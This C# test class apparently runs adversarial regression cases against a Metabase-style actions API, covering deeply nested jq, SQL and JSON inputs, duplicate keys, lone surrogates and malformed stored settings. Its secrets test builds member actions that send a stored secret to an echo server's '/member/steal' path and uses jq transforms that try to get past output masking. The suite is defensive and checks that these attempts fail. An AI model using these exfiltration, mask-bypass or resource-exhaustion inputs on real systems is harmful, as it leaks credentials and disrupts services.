using System.Text;
using System.Text.Json.Nodes;
using System.Text.RegularExpressions;
using Actions.Tests.Api;
using Actions.Tests.Infrastructure;

namespace Actions.Tests.Hostile;

/// <summary>
/// Issue 13's defects as fixed requests. Each goes through the same checks as the generated ones (no 5xx, no
/// leak, the process up); some add the answer the spec requires (a list that must still answer 200, a write that
/// must not be reported into a deleted file, a secret that must not reach the echo from a member's action).
/// </summary>
public sealed class NamedCases(HostileWorld w, HostileRunner runner, HostileFixture fixture)
{
    private static readonly int[] JqDepths = [100, 1000, 20_000];
    private static readonly int[] StoredDepths = [20, 30, 31, 32, 33, 62, 63];

    private async Task<(int? Status, JsonNode? Json, string Body)> Send(Role role, string method, string path, string? body, string what, int? expect = null)
    {
        var headers = role switch
        {
            Role.Member => new List<(string, string)> { ("X-Metabase-Session", w.MemberSession) },
            Role.Superuser => [("X-Metabase-Session", w.AdminSession)],
            _ => [],
        };
        var request = new HostileRequest(role, method, path, what)
        {
            Headers = headers, AuthLabel = role.ToString().ToLowerInvariant(), Body = body is null ? null : Encoding.UTF8.GetBytes(body),
            RouteKey = Regex.Replace(path.Split('?')[0], @"(?<=/)(\d+|[0-9a-fA-F-]{32,})(?=/|$)", "{}").TrimStart('/'),
        };
        var (status, text) = await runner.SendAsync(request);
        if (expect is { } expected && status is { } s && s != expected && s < 500)
            runner.Failures.Add(new HostileFailure(request, s, $"expected {expected}", text));
        JsonNode? json = null;
        try
        {
            json = text.Length > 0 ? JsonNode.Parse(text) : null;
        }
        catch (System.Text.Json.JsonException)
        {
            // Plain text answers.
        }
        return (status, json, text);
    }

    private static int? IdOf(JsonNode? json) => json is JsonObject o && o["id"] is JsonValue v && v.TryGetValue<int>(out var id) ? id : null;

    private async Task HealthAsync(string after) => await runner.CheckHealthAsync(new HostileRequest(Role.Anonymous, "GET", "/api/health", after));

    /// <summary>Defect 1: nested jq (parens, brackets, interpolation) and nested SQL template syntax, at and past any limit.</summary>
    public async Task DeepJqAndTemplatesAsync()
    {
        // The issue's case in full (both handles, create and update, at and past any limit); the other recursive
        // shapes of the grammar once each, far past any limit.
        var shapes = JqDepths.Select(d => ($"parens nested {d}", HostileInputs.NestedParens(d), true)).Concat(new[]
        {
            // Valid jq whose answer nests deeper than the JSON writer's default limit (64).
            // (as an error_handle the answer is the error body's "message").
            ("array constructors nested 100", new string('[', 100) + "." + new string(']', 100), true),
            ("object constructors nested 100", string.Concat(Enumerable.Repeat("{a:", 100)) + "." + new string('}', 100), true),
            ("array constructors nested 20000", new string('[', 20_000) + "." + new string(']', 20_000), false),
            ("object constructors nested 20000", string.Concat(Enumerable.Repeat("{a:", 20_000)) + "." + new string('}', 20_000), false),
            ("interpolation nested 5000", string.Concat(Enumerable.Repeat("\"\\(", 5_000)) + "." + string.Concat(Enumerable.Repeat(")\"", 5_000)), false),
            ("negation nested 20000", string.Concat(Enumerable.Repeat("-(", 20_000)) + "1" + new string(')', 20_000), false),
            ("if chains nested 5000", string.Concat(Enumerable.Repeat("if . then ", 5_000)) + "." + string.Concat(Enumerable.Repeat(" else . end", 5_000)), false),
            ("pipes 20000 long", string.Join(" | ", Enumerable.Repeat(".", 20_000)), false),
            ("alternatives 20000 long", string.Join(" // ", Enumerable.Repeat(".a", 20_000)), false),
        });
        foreach (var (label, jq, everyWay) in shapes)
            foreach (var key in everyWay ? new[] { "response_handle", "error_handle" } : ["response_handle"])
            {
                var body = HostileWorld.HttpAction(w.ModelId, $"{w.EchoUrl}/member/x", null, ".body");
                body[key] = jq;
                var what = $"{key}: {label}";
                var (status, json, _) = await Send(Role.Member, "POST", "/api/action", body.ToJsonString(), what);
                await HealthAsync(what);
                if (status == 200 && IdOf(json) is { } id)
                {
                    await Send(Role.Member, "POST", $"/api/action/{id}/execute", "{\"parameters\":{\"q\":\"a\"}}", "run " + what);
                    await HealthAsync("run " + what);
                }
                if (!everyWay) continue;
                await Send(Role.Superuser, "PUT", $"/api/action/{w.HttpActionId}", new JsonObject { [key] = jq }.ToJsonString(), "PUT " + what);
                await HealthAsync("PUT " + what);
            }
        await RestoreHttpActionAsync();
        // The SQL template parser and the database: nested parens, [[ blocks and {{ tags far past any sensible depth.
        foreach (var (label, sql) in new[]
        {
            ("parens", "UPDATE categories SET name = " + HostileInputs.NestedParens(20_000, "'x'") + " WHERE id = 1"),
            ("optional blocks", "UPDATE categories SET name = 'x' WHERE id = 1 " + string.Concat(Enumerable.Repeat("[[ AND {{id}} = 1 ", 20_000)) + new string(']', 40_000)),
            ("nested blocks", "UPDATE categories SET name = 'x' WHERE 1 = 1 " + new string('[', 40_000) + "{{id}}" + new string(']', 40_000)),
            ("tags", "UPDATE categories SET name = 'x' WHERE id = " + string.Concat(Enumerable.Repeat("{{", 20_000)) + "id" + string.Concat(Enumerable.Repeat("}}", 20_000))),
            ("comments", "UPDATE categories SET name = 'x' WHERE id = 1 " + string.Concat(Enumerable.Repeat("/* ", 20_000)) + string.Concat(Enumerable.Repeat("*/ ", 20_000))),
        })
        {
            var body = QueryAction(sql);
            var what = $"SQL template: {label}";
            var (status, json, _) = await Send(Role.Member, "POST", "/api/action", body.ToJsonString(), what);
            await HealthAsync(what);
            if (status == 200 && IdOf(json) is { } id)
            {
                await Send(Role.Member, "POST", $"/api/action/{id}/execute", "{\"parameters\":{\"id\":1}}", "run " + what);
                await HealthAsync("run " + what);
            }
        }
        // JSON bodies nested at and past the parser's limit, on the routes that store JSON.
        foreach (var depth in HostileInputs.Depths)
        {
            await Send(Role.Member, "POST", "/api/action", HostileInputs.NestedArrays(depth), $"body: arrays nested {depth}");
            await Send(Role.Member, "POST", $"/api/action/{w.QueryActionId}/execute", "{\"parameters\":" + HostileInputs.NestedObjects(depth) + "}", $"parameters nested {depth}");
            await Send(Role.Anonymous, "POST", $"/api/public/action/{w.QueryUuid}/execute", "{\"parameters\":{\"id\":" + HostileInputs.NestedArrays(depth) + "}}", $"public parameter nested {depth}");
        }
    }

    /// <summary>Defect 3: JSON that parses but has duplicate keys or lone surrogates.</summary>
    public async Task DuplicateKeysAndLoneSurrogatesAsync()
    {
        var cases = new (Role Role, string Method, string Path, string Body)[]
        {
            (Role.Anonymous, "POST", "/api/session", """{"username": 1, "username": "a@b.c", "password": "x"}"""),
            (Role.Anonymous, "POST", "/api/session", """{"username": "a@b.c", "password": "x", "password": "y"}"""),
            (Role.Anonymous, "POST", "/api/session", """{"username": "\ud800x", "password": "x"}"""),
            (Role.Anonymous, "POST", "/api/session", """{"username": "admin@example.com", "password": "\udc00"}"""),
            (Role.Anonymous, "POST", "/api/setup", """{"user": {"email": "a@b.c", "email": 1, "password": "x"}, "user": {}}"""),
            (Role.Anonymous, "POST", "/api/setup", """{"user": {"email": "\ud800@b.c", "password": "Passw0rd!x", "first_name": "\ud800", "last_name": "x"}}"""),
            (Role.Member, "POST", "/api/action", """{"name": 1, "name": "a", "type": "query", "type": "http", "model_id": 1}"""),
            (Role.Member, "POST", "/api/action", """{"name": "\ud800x", "type": "query", "model_id": MODEL, "database_id": DB, "dataset_query": {"database": DB, "type": "native", "native": {"query": "UPDATE categories SET name = '\ud800' WHERE id = 1"}}}"""),
            (Role.Member, "PUT", "/api/action/QUERY", """{"name": "a", "name": "b"}"""),
            (Role.Member, "PUT", "/api/action/QUERY", """{"description": "\ud800"}"""),
            (Role.Member, "POST", "/api/action/QUERY/execute", """{"parameters": {"id": 1, "id": "\ud800x"}}"""),
            (Role.Member, "POST", "/api/action/QUERY/execute", """{"parameters": {"id": 1, "name": "\ud800x"}}"""),
            (Role.Member, "POST", "/api/action/QUERY/execute", """{"parameters": {"id": 1}, "parameters": {}}"""),
            (Role.Anonymous, "POST", "/api/public/action/UUID/execute", """{"parameters": {"id": 1, "id": 2}}"""),
            (Role.Anonymous, "POST", "/api/public/action/UUID/execute", """{"parameters": {"id": 1, "name": "\ud800x"}}"""),
            (Role.Anonymous, "POST", "/api/public/action/UUID/execute", """{"parameters": {"id": 1}, "parameters": null}"""),
            (Role.Member, "POST", "/api/card", """{"name": "a", "name": "b", "type": "model", "dataset_query": {"database": DB, "type": "query", "query": {"source-table": TABLE}}}"""),
            (Role.Member, "POST", "/api/card", """{"name": "\ud800", "type": "model", "dataset_query": {"database": DB, "type": "query", "query": {"source-table": TABLE}}}"""),
            (Role.Superuser, "POST", "/api/user", """{"email": "d@example.com", "email": "e@example.com", "first_name": "\ud800", "last_name": "x"}"""),
            (Role.Superuser, "PUT", "/api/setting/site-name", """{"value": "a", "value": "\ud800"}"""),
            (Role.Superuser, "POST", "/api/permissions/group", """{"name": "\udfff"}"""),
            (Role.Superuser, "POST", "/api/secret", """{"name": "DUP", "name": "DUP2", "value": "\ud800", "allowed_hosts": ["127.0.0.1"]}"""),
            (Role.Superuser, "PUT", "/api/collection/graph", """{"revision": 0, "revision": 1, "groups": {}}"""),
            (Role.Superuser, "PUT", "/api/database/DB", """{"details": {"db": "x", "db": "y"}}"""),
            (Role.Superuser, "PUT", "/api/field/FIELD", """{"display_name": "\ud800", "display_name": "x"}"""),
            (Role.Member, "POST", "/api/action/QUERY/execute/values", """{"parameters": {"id": 1, "id": 1}}"""),
            (Role.Member, "GET", "/api/action/QUERY/execute?parameters=" + Uri.EscapeDataString("""{"id": 1, "id": "\ud800"}"""), ""),
            (Role.Anonymous, "GET", "/api/public/action/UUID/execute?parameters=" + Uri.EscapeDataString("""{"id": 1, "id": "\ud800"}"""), ""),
        };
        foreach (var (role, method, path, body) in cases)
            await Send(role, method, Fill(path), body.Length == 0 ? null : Fill(body), "issue 13 defect 3");
    }

    private string Fill(string s) => s.Replace("QUERY", $"{w.QueryActionId}", StringComparison.Ordinal).Replace("UUID", w.QueryUuid, StringComparison.Ordinal)
        .Replace("MODEL", $"{w.ModelId}", StringComparison.Ordinal).Replace("TABLE", $"{w.TableId}", StringComparison.Ordinal)
        .Replace("FIELD", $"{w.FieldId}", StringComparison.Ordinal).Replace("DB", $"{w.DatabaseId}", StringComparison.Ordinal);

    /// <summary>Defect 5: JSON stored nested deep must not break the lists for everyone (accepted depth = written depth).</summary>
    public async Task DeepStoredJsonAsync()
    {
        foreach (var depth in StoredDepths)
        {
            var nested = JsonNode.Parse(HostileInputs.NestedObjects(depth));
            var card = ModelsApiTests.Model($"deep {depth}", w.DatabaseId, w.TableId);
            card["visualization_settings"] = nested!.DeepClone();
            await Send(Role.Member, "POST", "/api/card", card.ToJsonString(), $"card visualization_settings nested {depth}");
            await Send(Role.Member, "PUT", $"/api/card/{w.ModelId}", new JsonObject { ["visualization_settings"] = nested.DeepClone() }.ToJsonString(), $"PUT card visualization_settings nested {depth}");
            await Send(Role.Member, "GET", "/api/card", null, $"list cards after nesting {depth}", expect: 200);
            await Send(Role.Superuser, "GET", "/api/card", null, $"list cards after nesting {depth}", expect: 200);
            await Send(Role.Member, "GET", $"/api/card/{w.ModelId}", null, $"card after nesting {depth}", expect: 200);

            var action = QueryAction("UPDATE categories SET name = 'x' WHERE id = 1");
            action["visualization_settings"] = nested.DeepClone();
            action["parameter_mappings"] = nested.DeepClone();
            await Send(Role.Member, "POST", "/api/action", action.ToJsonString(), $"action visualization_settings nested {depth}");
            await Send(Role.Member, "GET", "/api/action", null, $"list actions after nesting {depth}", expect: 200);
            await Send(Role.Member, "GET", $"/api/action?model-id={w.ModelId}", null, $"list model actions after nesting {depth}", expect: 200);

            var details = new JsonObject { ["db"] = w.TargetPath, ["extra"] = nested.DeepClone() };
            await Send(Role.Superuser, "POST", "/api/database", new JsonObject { ["name"] = $"deep {depth}", ["engine"] = "sqlite", ["details"] = details.DeepClone() }.ToJsonString(), $"database details nested {depth}");
            await Send(Role.Superuser, "PUT", $"/api/database/{w.DatabaseId}", new JsonObject { ["details"] = details.DeepClone() }.ToJsonString(), $"PUT database details nested {depth}");
            await Send(Role.Superuser, "GET", "/api/database", null, $"list databases after nesting {depth}", expect: 200);
            await Send(Role.Member, "GET", "/api/database", null, $"list databases after nesting {depth}", expect: 200);
            await Send(Role.Superuser, "GET", $"/api/database/{w.DatabaseId}", null, $"database after nesting {depth}", expect: 200);
        }
        await Send(Role.Superuser, "PUT", $"/api/database/{w.DatabaseId}", new JsonObject { ["details"] = new JsonObject { ["db"] = w.TargetPath } }.ToJsonString(), "restore database details");
    }

    /// <summary>Defect 6: shapes validation lets through, saved and then run (authenticated and public).</summary>
    public async Task StoredShapesAsync()
    {
        var fieldShapes = new (string Label, string Json)[]
        {
            ("fields a number", """{"type": "form", "fields": 5}"""), ("fields a list", """{"type": "form", "fields": [1, 2]}"""),
            ("fields a string", """{"type": "form", "fields": "x"}"""), ("field a number", """{"fields": {"id": 5, "name": null}}"""),
            ("hidden not a boolean", """{"fields": {"id": {"id": "id", "hidden": "yes", "defaultValue": {"a": 1}}}}"""),
            ("defaultValue a list", """{"fields": {"name": {"id": "name", "hidden": true, "defaultValue": [1, 2]}}}"""),
            ("settings a list", "[1, 2]"), ("settings a string", "\"form\""),
        };
        var parameterShapes = new (string Label, string Json)[]
        {
            ("parameter without id", """[{"slug": "id", "type": "number/=", "target": ["variable", ["template-tag", "id"]]}]"""),
            ("parameter with a numeric id", """[{"id": 5, "slug": "id", "type": "number/=", "target": ["variable", ["template-tag", "id"]]}]"""),
            ("parameter with a null id", """[{"id": null, "type": "number/="}]"""),
            ("parameter a number", "[1]"), ("parameter target a number", """[{"id": "id", "type": "number/=", "target": 5}]"""),
            ("parameters duplicated", """[{"id": "id", "type": "number/="}, {"id": "id", "type": "string/="}]"""),
        };
        var tagShapes = new (string Label, string Json)[]
        {
            ("tag without id", """{"id": {"name": "id", "display-name": "ID", "type": "number", "required": true}}"""),
            ("tag with a numeric id", """{"id": {"id": 7, "name": "id", "display-name": "ID", "type": "number"}}"""),
            ("tag a number", """{"id": 7}"""), ("tag name not the key", """{"id": {"id": "t", "name": 3, "type": "number"}}"""),
            ("tag default an object", """{"id": {"id": "t", "name": "id", "type": "number", "default": {"a": 1}}}"""),
        };
        var bodies = new List<(string Label, JsonObject Body)>();
        foreach (var (label, json) in fieldShapes)
        {
            var body = FixtureQueryAction();
            body["visualization_settings"] = JsonNode.Parse(json);
            bodies.Add(($"visualization_settings {label}", body));
        }
        foreach (var (label, json) in parameterShapes)
        {
            var body = FixtureQueryAction();
            body["parameters"] = JsonNode.Parse(json);
            bodies.Add((label, body));
        }
        foreach (var (label, json) in tagShapes)
        {
            var body = FixtureQueryAction();
            body["dataset_query"]!["native"]!["template-tags"] = JsonNode.Parse(json);
            bodies.Add((label, body));
        }
        foreach (var (label, body) in bodies)
        {
            foreach (var role in new[] { Role.Superuser, Role.Member })
            {
                var (status, json, _) = await Send(role, "POST", "/api/action", body.ToJsonString(), $"save: {label}");
                if (status != 200 || IdOf(json) is not { } id) continue;
                await RunEveryWayAsync(id, label);
            }
        }
        // The same shapes put onto existing actions of each type (the implicit one replaces parameters and fields on read).
        foreach (var id in new[] { w.ImplicitUpdateId, w.HttpActionId })
            foreach (var (label, json) in fieldShapes)
            {
                var (status, _, _) = await Send(Role.Superuser, "PUT", $"/api/action/{id}", $"{{\"visualization_settings\": {json}}}", $"PUT: {label}");
                if (status == 200) await RunEveryWayAsync(id, label);
            }
        await Send(Role.Member, "GET", "/api/action", null, "list actions after the odd shapes", expect: 200);
    }

    private async Task RunEveryWayAsync(int id, string label)
    {
        await Send(Role.Member, "GET", $"/api/action/{id}", null, $"read: {label}");
        await Send(Role.Member, "POST", $"/api/action/{id}/execute", """{"parameters": {"id": 1, "name": "x", "q": "a"}}""", $"run: {label}");
        await Send(Role.Member, "POST", $"/api/action/{id}/execute", """{"parameters": {}}""", $"run without values: {label}");
        await Send(Role.Member, "GET", $"/api/action/{id}/execute?parameters=" + Uri.EscapeDataString("{\"id\":1}"), null, $"prefetch: {label}");
        var (status, json, _) = await Send(Role.Superuser, "POST", $"/api/action/{id}/public_link", null, $"share: {label}");
        if (status != 200 || json?["uuid"]?.GetValue<string>() is not { } uuid) return;
        await Send(Role.Anonymous, "GET", $"/api/public/action/{uuid}", null, $"public read: {label}");
        await Send(Role.Anonymous, "GET", $"/api/public/action/{uuid}/execute?parameters=" + Uri.EscapeDataString("{\"id\":1}"), null, $"public prefetch: {label}");
        await Send(Role.Anonymous, "POST", $"/api/public/action/{uuid}/execute", """{"parameters": {"id": 1, "name": "x", "q": "a"}}""", $"public run: {label}");
        await Send(Role.Anonymous, "POST", $"/api/public/action/{uuid}/execute", null, $"public run without a body: {label}");
        await Send(Role.Anonymous, "GET", $"/public/action/{uuid}", null, $"public form page: {label}");
    }

    /// <summary>Defect 4: the uuid spelled every way, on every public route (GET, prefetch, run, the form page).</summary>
    public async Task PublicUuidSpellingsAsync()
    {
        foreach (var spelled in HostileInputs.UuidSpellings(w.QueryUuid).Append(w.QueryUuid))
        {
            await Send(Role.Anonymous, "GET", $"/api/public/action/{spelled}", null, "uuid spelling");
            await Send(Role.Anonymous, "GET", $"/api/public/action/{spelled}/execute?parameters=%7B%22id%22%3A1%7D", null, "uuid spelling");
            await Send(Role.Anonymous, "POST", $"/api/public/action/{spelled}/execute", """{"parameters": {"id": 1, "name": "x"}}""", "uuid spelling");
            await Send(Role.Anonymous, "GET", $"/public/action/{spelled}", null, "uuid spelling");
        }
    }

    /// <summary>
    /// Defect 2: a member's action must not send the secret to the member's server; a response handle that
    /// transforms the echoed secret must not show it; a secret goes only to its allowed hosts.
    /// </summary>
    public async Task SecretsAsync()
    {
        var before = fixture.Echo.Received.Count;
        // A member writes an action that sends the secret to a server of their choosing, and runs it.
        var memberAction = HostileWorld.HttpAction(w.ModelId, $"{w.EchoUrl}/member/steal?k={{{{secret:HOSTILE_SECRET}}}}",
            """{"X-Steal": "{{secret:HOSTILE_SECRET}}"}""", ".body");
        var (status, json, _) = await Send(Role.Member, "POST", "/api/action", memberAction.ToJsonString(), "member's action sending the secret");
        if (status == 200 && IdOf(json) is { } memberId)
            await Send(Role.Member, "POST", $"/api/action/{memberId}/execute", """{"parameters": {"q": "a"}}""", "run member's action sending the secret");
        // A member repoints the superuser's action (whose stored template uses the secret) to their own path, and runs it.
        var repointed = new JsonObject { ["template"] = new JsonObject { ["method"] = "POST", ["url"] = $"{w.EchoUrl}/member/repointed", ["headers"] = """{"Authorization": "Bearer {{secret:HOSTILE_SECRET}}"}""" } };
        (status, _, _) = await Send(Role.Member, "PUT", $"/api/action/{w.HttpActionId}", repointed.ToJsonString(), "member repoints the superuser's secret action");
        await Send(Role.Member, "POST", $"/api/action/{w.HttpActionId}/execute", """{"parameters": {"q": "a"}}""", "run after a member's repoint");
        // A member changes only the response handle of the superuser's action to transform the echoed secret.
        await Send(Role.Member, "PUT", $"/api/action/{w.HttpActionId}", """{"response_handle": ".body.headers.authorization | ascii_downcase"}""", "member sets a transforming handle");
        await Send(Role.Member, "POST", $"/api/action/{w.HttpActionId}/execute", """{"parameters": {"q": "a"}}""", "run after a member's handle change");

        // A member's actions whose handles transform the echoed secret past the exact-text mask (the echo answers
        // {"headers": {"authorization": "Bearer <secret>"}, …} in .body): refused (403) once only superusers may
        // use secrets; on main they are saved, and their answers, to the member and to the public, carry it.
        var transforms = new[]
        {
            ".body.headers.authorization | ascii_downcase", ".body.headers.authorization | ascii_upcase", ".body.headers.authorization[8:]",
            ".body.headers.authorization[0:15]", ".body.headers.authorization | explode", ".body.headers.authorization | explode | map(. + 1) | implode",
            "[.body.headers.authorization | explode[] | [.] | implode] | join(\" \")", ".body.headers | to_entries | map(.value | ascii_downcase)",
            "error(.body.headers.authorization | ascii_downcase)", "{a: .body.headers.authorization[7:]} | tostring",
            ".body.headers.authorization | split(\"-\")", ".body | tostring | ascii_downcase", ".body.headers.authorization | .[7:10], .[10:]",
        };
        foreach (var handle in transforms) await SecretActionAsync(Role.Member, "member", handle);
        // A superuser's actions that answer the secret's exact text: the mask replaces it, for the member and the public.
        foreach (var handle in new[] { ".body", ".body.headers.authorization[7:]", "error(.body.headers.authorization[7:])", "{a: .body.headers.authorization[7:]}" })
            await SecretActionAsync(Role.Superuser, "admin", handle);
        // Bound to 127.0.0.1: a superuser's action to localhost must not carry it.
        var otherHost = HostileWorld.HttpAction(w.ModelId, $"{w.EchoUrl.Replace("127.0.0.1", "localhost", StringComparison.Ordinal)}/admin-localhost?k={{{{secret:HOSTILE_SECRET}}}}", null, ".body");
        (status, json, _) = await Send(Role.Superuser, "POST", "/api/action", otherHost.ToJsonString(), "secret to a host outside allowed_hosts");
        if (status == 200 && IdOf(json) is { } otherId)
            await Send(Role.Superuser, "POST", $"/api/action/{otherId}/execute", """{"parameters": {"q": "a"}}""", "run: secret to a host outside allowed_hosts");

        foreach (var (path, text) in fixture.Echo.Received.Skip(before))
            if ((path.StartsWith("/member", StringComparison.Ordinal) || path.StartsWith("/admin-localhost", StringComparison.Ordinal)) && HostileRunner.CarriesSecret(text))
                runner.Failures.Add(new HostileFailure(new HostileRequest(Role.Member, "(echo)", path, "what the echo server received") { RouteKey = path.TrimStart('/') }, null,
                    path.StartsWith("/member", StringComparison.Ordinal) ? "secret sent to a member's server" : "secret sent to a host outside allowed_hosts", text));
        await RestoreHttpActionAsync();
    }

    /// <summary>Puts the world's HTTP action back as it was made (the cases above change its handles and template).</summary>
    private async Task RestoreHttpActionAsync() =>
        await Send(Role.Superuser, "PUT", $"/api/action/{w.HttpActionId}", HostileWorld.HttpAction(w.ModelId, $"{w.EchoUrl}/admin/{{{{q}}}}",
            """{"Authorization": "Bearer {{secret:HOSTILE_SECRET}}"}""", ".body").ToJsonString(), "restore the world's HTTP action", expect: 200);

    /// <summary>An HTTP action sending the secret to the echo, written by <paramref name="author"/>, run by a member and publicly.</summary>
    private async Task SecretActionAsync(Role author, string echoPath, string handle)
    {
        var body = HostileWorld.HttpAction(w.ModelId, $"{w.EchoUrl}/{echoPath}/transform", """{"Authorization": "Bearer {{secret:HOSTILE_SECRET}}"}""", handle);
        var (created, json, _) = await Send(author, "POST", "/api/action", body.ToJsonString(), $"{author}'s handle {handle}");
        if (created != 200 || IdOf(json) is not { } id) return;
        await Send(Role.Member, "POST", $"/api/action/{id}/execute", """{"parameters": {"q": "a"}}""", $"run handle {handle}");
        (_, json, _) = await Send(Role.Superuser, "POST", $"/api/action/{id}/public_link", null, "share");
        if (json?["uuid"]?.GetValue<string>() is { } uuid)
            await Send(Role.Anonymous, "POST", $"/api/public/action/{uuid}/execute", """{"parameters": {"q": "a"}}""", $"public run handle {handle}");
    }

    /// <summary>Defect 7: a run against a SQLite file deleted after use must fail, not report a write into the unlinked file.</summary>
    public async Task DeletedSqliteTargetAsync()
    {
        var admin = fixture.Anonymous.WithSession(w.AdminSession);
        var path = TargetDatabases.Sqlite(ActionSetup.CategoriesDdl);
        var databaseId = await TargetDatabases.RegisterAsync(admin, "sqlite", new JsonObject { ["db"] = path });
        var (tableId, _) = await TargetDatabases.TableAsync(admin, databaseId, "categories");
        var modelId = (await admin.Post("/api/card", ModelsApiTests.Model("categories", databaseId, tableId).ToJsonString())).Json["id"]!.GetValue<int>();
        var body = QueryAction("UPDATE categories SET name = 'x' WHERE id = 1");
        body["model_id"] = modelId;
        body["database_id"] = databaseId;
        body["dataset_query"]!["database"] = databaseId;
        var (_, json, _) = await Send(Role.Superuser, "POST", "/api/action", body.ToJsonString(), "action on a file to delete");
        if (IdOf(json) is not { } id) return;
        await Send(Role.Superuser, "POST", $"/api/action/{id}/execute", "{}", "run before the file is deleted", expect: 200);
        foreach (var file in new[] { path, path + "-wal", path + "-shm", path + "-journal" }) File.Delete(file);
        for (var i = 0; i < 3; i++)
        {
            var (status, _, text) = await Send(Role.Superuser, "POST", $"/api/action/{id}/execute", "{}", "run after the file was deleted");
            if (status == 200)
                runner.Failures.Add(new HostileFailure(new HostileRequest(Role.Superuser, "POST", $"/api/action/{id}/execute", "run after the SQLite file was deleted") { RouteKey = "api/action/{}/execute" },
                    status, "write reported into a deleted SQLite file", text));
        }
        if (File.Exists(path))
            runner.Failures.Add(new HostileFailure(new HostileRequest(Role.Superuser, "POST", $"/api/action/{id}/execute", "run after the SQLite file was deleted"), null,
                "a run re-created the deleted SQLite file", path));
    }

    private JsonObject QueryAction(string sql) => new()
    {
        ["name"] = "Named case", ["type"] = "query", ["model_id"] = w.ModelId, ["database_id"] = w.DatabaseId,
        ["dataset_query"] = new JsonObject
        {
            ["database"] = w.DatabaseId, ["type"] = "native",
            ["native"] = new JsonObject
            {
                ["query"] = sql,
                ["template-tags"] = new JsonObject { ["id"] = new JsonObject { ["id"] = "tag-id", ["name"] = "id", ["display-name"] = "ID", ["type"] = "number" } },
            },
        },
        ["parameters"] = new JsonArray(new JsonObject { ["id"] = "id", ["slug"] = "id", ["type"] = "number/=", ["target"] = new JsonArray("variable", new JsonArray("template-tag", "id")) }),
    };

    private JsonObject FixtureQueryAction() => new ActionSetup
    {
        Admin = fixture.Anonymous, DatabaseId = w.DatabaseId, Path = w.TargetPath, Models = new() { ["categories"] = w.ModelId },
    }.FixtureAction();
}
